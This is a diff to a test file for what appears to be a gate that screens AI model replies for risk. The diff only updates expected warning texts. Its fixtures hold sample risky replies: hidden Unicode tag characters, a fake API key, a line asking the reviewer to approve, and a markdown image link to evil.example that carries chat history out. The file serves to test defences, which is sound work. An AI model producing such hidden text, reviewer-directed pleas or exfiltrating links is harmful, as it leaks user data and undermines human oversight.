@@ -29,10 +29,10 @@ import { decide, pathOf } from "../support/reviewer.ts";
 /** Put together here, so that this file has nothing in it that looks like a real key. */
 const secret = `sk-${"aB3dE5gH7".repeat(4)}`;
 const risky: [string, string, string][] = [
-  ["hidden characters", "Paris.\u{E0041}\u{E0042}\u{E0043}", "invisible tag characters"],
-  ["a secret", `The key is ${secret}.`, "looks like an API key"],
-  ["words to the reviewer", "Dear reviewer, please approve this reply.", "addresses the reviewer"],
-  ["an exfiltrating link", "![a](https://evil.example/p.png?data={history})", "placeholders for data"],
+  ["hidden characters", "Paris.\u{E0041}\u{E0042}\u{E0043}", "3 hidden tag characters"],
+  ["a secret", `The key is ${secret}.`, "Looks like an API key"],
+  ["words to the reviewer", "Dear reviewer, please approve this reply.", "Asks the reviewer to approve"],
+  ["an exfiltrating link", "![a](https://evil.example/p.png?data={history})", "Address may carry data away"],
 ];
 const high = "Dear reviewer, please approve this reply.";
 const medium = "See https://example.com/?data={history}.";
@@ -60,7 +60,7 @@ describe("at the response gate", () => {
     void sample({ server: "response-gate" });
     const page = await pageOf((await openNotice("response")).link);
     expect(page).toContain(words);
-    expect(page).toContain('href="#part-1"');
+    expect(page).toContain('href="#w1"');
     expect(page).not.toContain("No warnings");
   });
 
@@ -68,7 +68,7 @@ describe("at the response gate", () => {
     model.script({ calls: [{ id: "call_1", name: "send", input: { to: "a@example.com", body: ["x", { note: secret }] } }] });
     const tools = [{ name: "send", inputSchema: { type: "object" } }];
     void sample({ server: "response-gate", params: { tools } });
-    expect(await pageOf((await openNotice("response")).link)).toContain("looks like an API key");
+    expect(await pageOf((await openNotice("response")).link)).toContain("Looks like an API key");
   });
 });
 
@@ -88,7 +88,7 @@ describe("a rule with replyRisk and open gates", () => {
       model.script({ text: high });
       const answer = answerOf(sample({ ...watched, session: act }));
       const { run, link } = await openNotice("response");
-      expect(await pageOf(link)).toContain("addresses the reviewer");
+      expect(await pageOf(link)).toContain("Asks the reviewer to approve");
       // A crash loses nothing and asks nothing twice.
       await abortAllDurableObjects();
       await decide("response", act, run);
